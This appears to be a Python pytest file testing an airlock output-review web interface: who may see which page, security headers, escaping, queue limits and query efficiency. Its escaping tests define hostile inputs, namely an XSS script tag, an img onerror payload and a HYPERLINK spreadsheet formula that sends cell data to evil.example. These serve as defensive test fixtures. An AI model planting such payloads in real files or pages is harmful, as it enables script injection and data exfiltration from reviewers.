"""The pages without a browser: who sees which page, the Content-Security-Policy, and
escaping of everything a researcher or a reviewer typed."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.harness.airlock import (
    WORKSPACE_ADDRESS,
    Api,
    Harness,
    airlock_app,
    failing_table,
    safe_table,
)
from tests.harness.pages import Pages, TestClient

pytestmark = pytest.mark.integration

HOSTILE = '<script>alert("x")</script> =HYPERLINK("http://evil.example/?"&A1,"click")'
# Files holding "<script" are refused at intake (as HTML); markup without it is not.
MARKUP = '<img src=x onerror=alert(1)>'


@pytest.fixture
def env(db_url: str, tmp_path: Path) -> Iterator[tuple[Api, Harness]]:
    with airlock_app(db_url, tmp_path / "data") as h, \
            TestClient(h.app, client=WORKSPACE_ADDRESS) as client:
        yield Api(client), h


def escalated(api: Api, user: str = "alice", name: str = "notes.md",
              content: bytes = b"# notes\n", **kw: object) -> dict:  # type: ignore[type-arg]
    r = api.submit(user, [(name, content)], **kw)
    assert r.status_code == 201, r.text
    assert r.json()["state"] == "in_review"
    return r.json()  # type: ignore[no-any-return]


def test_pages_for_the_right_roles(env: tuple[Api, Harness]) -> None:
    api, h = env
    req = escalated(api)
    rid = req["id"]
    carol, alice, zoe = Pages(h.app, "carol"), Pages(h.app, "alice"), Pages(h.app, "zoe")
    grace, olivia, cedric = Pages(h.app, "grace"), Pages(h.app, "olivia"), Pages(h.app, "cedric")
    assert carol.get("/queue").status_code == 200
    assert carol.get(f"/requests/{rid}").status_code == 200
    assert carol.get("/mine").status_code == 200
    assert olivia.get("/queue").status_code == 200  # operators see the queue...
    assert "form" not in olivia.get(f"/requests/{rid}").text.split("<main")[1].split(
        "History")[0].replace('<form method="post" action="/logout"', "")  # ...never judge
    assert alice.get("/queue").status_code == 403
    r = alice.get(f"/requests/{rid}")
    assert r.status_code == 200 and "You made this request" in r.text
    assert 'class="vote stack"' not in r.text
    # in review, from her browser (outside): not even the files' names, only where to look
    assert "shown only inside the workspace that wrote it" in r.text
    assert req["files"][0]["name"] not in r.text
    assert zoe.get(f"/requests/{rid}").status_code == 404  # another project's: no such thing
    assert zoe.get("/queue").status_code == 403
    assert alice.get("/requests/0123456789abcdef0123456789abcdef").status_code == 404
    assert cedric.get(f"/requests/{rid}").status_code == 200  # a custodian reads, read-only
    assert "not an output checker" in cedric.get(f"/requests/{rid}").text
    assert grace.get("/governance").status_code == 200
    assert olivia.get("/governance").status_code == 200
    assert alice.get("/governance").status_code == 403
    assert carol.get("/").headers["location"] == "/queue"
    assert alice.get("/").headers["location"] == "/mine"


def test_not_logged_in_goes_to_the_login(env: tuple[Api, Harness]) -> None:
    _, h = env
    anon = Pages(h.app)
    for path in ("/", "/queue", "/mine", "/governance", "/requests/abc"):
        r = anon.get(path + "?x=1")
        assert r.status_code == 303
        assert r.headers["location"].startswith("/login?next=" + path)
    login = anon.get("/login")
    assert login.status_code == 200 and 'name="token"' in login.text


def test_security_headers_everywhere(env: tuple[Api, Harness]) -> None:
    api, h = env
    rid = escalated(api)["id"]
    carol = Pages(h.app, "carol")
    for path in ("/queue", f"/requests/{rid}", "/mine", "/login", "/static/airlock.css",
                 "/requests/nope", "/governance", "/api/health"):
        r = carol.get(path)
        csp = r.headers.get("content-security-policy", "")
        assert "default-src 'self'" in csp and "script-src 'self'" in csp, path
        assert "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp, path
        assert r.headers["x-content-type-options"] == "nosniff"
    page = carol.get(f"/requests/{rid}")
    assert page.headers["cache-control"] == "no-store"
    # no inline script, style or event handler anywhere: the CSP would block them
    html = page.text
    assert all("src=" in tag for tag in re.findall(r"<script[^>]*>", html))
    assert not re.search(r"\sstyle=", html) and not re.search(r"\son[a-z]+=", html)


def test_everything_typed_is_shown_as_text(env: tuple[Api, Harness], tmp_path: Path) -> None:
    api, h = env
    table = f"region,count\n{MARKUP},120\n<b>bold</b>,140\n".encode()
    name = "=HYPERLINK(1)&co's table.csv"
    notes = f"{MARKUP}\n=HYPERLINK(\"http://evil.example\",\"x\")\n".encode()
    req = api.submit("alice", [(name, table), ("notes.txt", notes)], context=HOSTILE).json()
    assert req["state"] == "in_review", req
    rid = req["id"]
    carol = Pages(h.app, "carol")
    for f in req["files"]:  # both files: the review is decided, the comments shown to alice
        carol.get(f"/requests/{rid}")
        r = carol.post(f"/requests/{rid}/vote", {"file_id": f["id"],
                                                 "choice": "request_changes",
                                                 "comment": HOSTILE})
        assert r.status_code == 303, r.text
    for who, path in (("carol", f"/requests/{rid}"), ("alice", "/mine"),
                      ("alice", f"/requests/{rid}")):
        html = (carol if who == "carol" else Pages(h.app, "alice")).get(path).text
        assert "<script>alert" not in html and "<b>bold</b>" not in html, (who, path)
        assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html, (who, path)
        assert "=HYPERLINK(" in html and "<a href=\"http://evil" not in html
    page = carol.get(f"/requests/{rid}").text
    assert "<img src=x" not in page and page.count("&lt;img src=x onerror=alert(1)&gt;") == 2
    assert "=HYPERLINK(1)&amp;co&#39;s table.csv" in page  # a file name
    assert "&lt;b&gt;bold&lt;/b&gt;" in page  # a table label
    assert "=HYPERLINK(&#34;http://evil.example&#34;,&#34;x&#34;)" in page  # a text file


def test_request_page_shows_checks_flags_and_alternative(env: tuple[Api, Harness],
                                                         tmp_path: Path) -> None:
    api, h = env
    path, side = failing_table(tmp_path)
    req = api.submit_table("alice", (path, side), manifest=[
        {"name": path.name, "context": "islands", "exception": "please look"}]).json()
    assert req["state"] == "in_review"
    page = Pages(h.app, "carol").get(f"/requests/{req['id']}").text
    assert page.count('class="flag fail"') == 1  # the one small cell
    assert "Minimum number of contributors" in page and "at least 10 are needed" in page
    assert "rare.safe.csv" in page and 'class="suppressed"' in page
    assert "Override reason" in page  # a failed file: approving it is an override
    assert "3 contributors" in page  # the evidence of the flagged cell


def test_researcher_page_lists_reasons_and_actions(env: tuple[Api, Harness],
                                                   tmp_path: Path) -> None:
    api, h = env
    rejected = api.submit_table("alice", failing_table(tmp_path)).json()
    released = api.submit_table("alice", safe_table(tmp_path)).json()
    assert (rejected["state"], released["state"]) == ("rejected", "released")
    page = Pages(h.app, "alice").get("/mine").text
    # A rejected request's reasons name cells by their labels, and its files are the
    # researcher's: from outside (a browser) they are not shown; the released one is.
    assert "at least 10 are needed" not in page and "rare.safe.csv" not in page
    assert "shown only inside the workspace" in page
    assert f'href="/api/requests/{released["id"]}/bundle"' in page
    assert "by_region.csv" in page
    inside = api.request("alice", rejected["id"]).json()  # her workspace sees everything
    assert inside["files"][0]["alternative"]["name"] == "rare.safe.csv"
    assert "at least 10 are needed" in str(inside["decision"])
    bob = Pages(h.app, "bob").get("/mine").text
    assert rejected["id"] not in bob


def test_governance_view_shows_roles_until_when_and_profiles(env: tuple[Api, Harness]) -> None:
    _, h = env
    page = Pages(h.app, "grace").get("/governance").text
    assert "erin" in page and "2027-01-01 00:00 UTC" in page
    assert "every project" in page and "output checker" in page
    assert "demo-project" in page and "default v1" in page
    assert 'id="profiles"' in page


def test_ui_static_and_no_external_assets() -> None:
    """The pages need nothing from outside: a TRE has no internet."""
    static = Path(__file__).resolve().parents[2] / "airlock" / "ui"
    for f in [*static.glob("templates/*.html"), *static.glob("static/*")]:
        text = f.read_text(errors="replace")
        assert not re.search(r"(src|href)=\"(https?:)?//", text), f
        assert "@import" not in text and "url(http" not in text, f


def test_governance_view_reads_the_stored_policy(tmp_path: Path) -> None:
    from tre.db import upgrade

    url = f"sqlite:///{tmp_path / 'tre.db'}"
    upgrade(url)
    with airlock_app(url, tmp_path / "data", stored_policy=True) as h, \
            TestClient(h.app, client=WORKSPACE_ADDRESS):
        page = Pages(h.app, "grace").get("/governance").text
        assert "Policy version 1" in page and "mallory" in page and "suspended" in page


def test_the_queue_counts_every_waiting_request_and_a_project_reaches_past_its_limit(
        env: tuple[Api, Harness], monkeypatch: pytest.MonkeyPatch) -> None:
    """The page reads at most QUEUE_LIMIT requests (here 2): the count is still of all,
    the page says what it left out, and choosing a project lists that project's."""
    api, h = env
    monkeypatch.setattr("airlock.service.queue.QUEUE_LIMIT", 2)
    demo = [escalated(api, name=f"notes{i}.md")["id"] for i in range(3)]
    other = escalated(api, "zoe", project="other-project")["id"]
    carol = Pages(h.app, "carol")
    page = carol.get("/queue").text
    assert re.search(r'id="waiting"><strong>4</strong> requests waiting', page)
    assert "Only the oldest <strong>2</strong> of the 4 waiting are listed" in page
    assert sum(rid in page for rid in [*demo, other]) == 2
    assert '<option value="other-project">' in page  # offered though none is listed
    page = carol.get("/queue?project=other-project").text
    assert other in page and not any(rid in page for rid in demo)
    assert 'id="truncated"' not in page
    page = carol.get("/queue?project=demo-project").text
    assert "Only the oldest <strong>2</strong> of the 3 in demo-project are listed" in page
    assert other not in page and sum(rid in page for rid in demo) == 2
    # a researcher still has no queue; nothing about another project's size leaks to them
    assert Pages(h.app, "alice").get("/queue?project=other-project").status_code == 403


def test_the_queue_reads_summaries_in_one_query_without_orm_loads(
        env: tuple[Api, Harness]) -> None:
    """Issue 14, the queue's regression: the page read every waiting request as ORM
    objects (requests, then files, then checks: three queries and 5,000 mapped objects
    for 1,000 requests).  Now: the rows in one query of plain columns, no Request, file
    or check object made (airlock.service.queue)."""
    from sqlalchemy import event

    from airlock.db.models import FileCheck, Request, RequestFile

    api, h = env
    for i in range(4):
        escalated(api, name=f"notes{i}.md")
    carol = Pages(h.app, "carol")
    carol.get("/queue")  # warm: the session and the policy
    statements: list[str] = []
    loads: list[str] = []

    def on_execute(conn: object, cursor: object, sql: str, *args: object) -> None:
        statements.append(sql)

    def on_load(target: object, context: object) -> None:
        loads.append(type(target).__name__)

    engine = h.ctx.db.kw["bind"]
    event.listen(engine, "before_cursor_execute", on_execute)
    for model in (Request, RequestFile, FileCheck):
        event.listen(model, "load", on_load)
    try:
        page = carol.get("/queue").text
    finally:
        event.remove(engine, "before_cursor_execute", on_execute)
        for model in (Request, RequestFile, FileCheck):
            event.remove(model, "load", on_load)
    assert page.count('data-nav="row"') == 4
    assert loads == []
    rows = [q for q in statements if "airlock_file_checks" in q]
    assert len(rows) == 1 and "airlock_files" in rows[0] and "airlock_requests" in rows[0]
